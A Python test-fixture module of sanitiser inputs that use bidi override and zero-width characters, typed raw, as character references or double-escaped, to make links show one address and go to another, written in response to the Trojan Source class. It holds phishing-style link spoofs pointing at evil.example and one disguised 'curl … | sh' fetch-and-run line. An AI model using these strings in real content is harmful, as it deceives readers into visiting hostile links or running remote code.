"""Bidi controls and zero-width characters that disguise a link's text or address, or hide words.

Written for Showfloor after the Trojan Source class (CVE-2021-42574): neither bleach nor any
other sanitiser removes U+202E (right-to-left override) from link text, so a link can show one
address and go to another. Each control appears typed as a character, as a numeric or named
character reference, and double-escaped so that the sanitiser's own unescaping makes it.
"""

RLO, LRO, RLE, LRE, PDF = "\u202e", "\u202d", "\u202b", "\u202a", "\u202c"
RLI, LRI, FSI, PDI = "\u2067", "\u2066", "\u2068", "\u2069"
RLM, LRM, ALM = "\u200f", "\u200e", "\u061c"
ZWSP, ZWNJ, ZWJ, WJ, BOM = "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"

INVISIBLE = {
    "rlo in link text": f"[https://good.example{RLO}lpmaxe.live](https://evil.example)",
    "rlo in href": f"[x](https://evil.example/{RLO}elpmaxe.doog)",
    "rlo in title": f'[click](https://evil.example "{RLO}title")',
    "rlo in bare url": f"see https://evil.example/{RLO}fdp.exe",
    "lro in link text": f"[{LRO}https://good.example{PDF}](https://evil.example)",
    "rle lre pdf": f"a{RLE}b{LRE}c{PDF}d",
    "isolates around url": f"pay {LRI}https://evil.example{PDI} now",
    "rli fsi": f"{RLI}moc.doog{PDI} and {FSI}x{PDI}",
    "marks": f"x{RLM}y{LRM}z{ALM}w",
    "arabic letter mark in link": f"[good.example{ALM}](https://evil.example)",
    "zero-width in text": f"pay{ZWSP}pal {ZWNJ}x{ZWJ}y{WJ}z{BOM}",
    "zero-width in link text": f"[pay{ZWSP}pal.com](https://evil.example)",
    "zero-width in href host": f"[x](https://pay{ZWSP}pal.com)",
    "mongolian vowel separator": "[good\u180e.example](https://evil.example)",
    "invisible math operators": "a\u2061b\u2062c\u2063d\u2064e",
    "deprecated format chars": "a\u206ab\u206bc\u206fd",
    "rlo decimal ref in text": "[https://good.example&#8238;lpmaxe.live](https://evil.example)",
    "rlo hex ref in text": "[https://good.example&#x202E;lpmaxe.live](https://evil.example)",
    "rlo ref no semicolon": "[https://good.example&#x202elpmaxe](https://evil.example)",
    "rlo padded ref": "[good&#x0000202e;lpmaxe](https://evil.example)",
    "rlo ref in href": "[x](https://evil.example/&#x202e;elpmaxe.doog)",
    "rlo ref in raw href": '<a href="https://a&#x202e;b.example">x</a>',
    "rlo ref in raw title": '<a href="https://ok.example" title="&#x202e;eltit">x</a>',
    "rlo ref in abbr title": '<abbr title="a&#8238;b">x</abbr>',
    "named marks refs": "x&rlm;y&lrm;z",
    "named zero-width refs": "a&ZeroWidthSpace;b&zwj;c&zwnj;d&NoBreak;e&InvisibleTimes;f",
    "double escaped rlo": "[good&amp;#x202e;lpmaxe](https://evil.example)",
    "markdown escaped rlo ref": "[good\\&#x202e;lpmaxe](https://evil.example)",
    "double escaped named rlm": "a &amp;rlm; b",
    "control refs": "a&#1;b&#x7f;c&#x9d;d",
    "rlo in code span": f"`https://good.example{RLO}txt.exe`",
    "rlo in fenced code": f"```\ncurl https://good.example{RLO}hs.x | sh\n```",
    "rlo in heading": f"# Breaking{RLO}: news",
    "rlo in table": f"| a |\n| - |\n| x{RLO}y |",
}
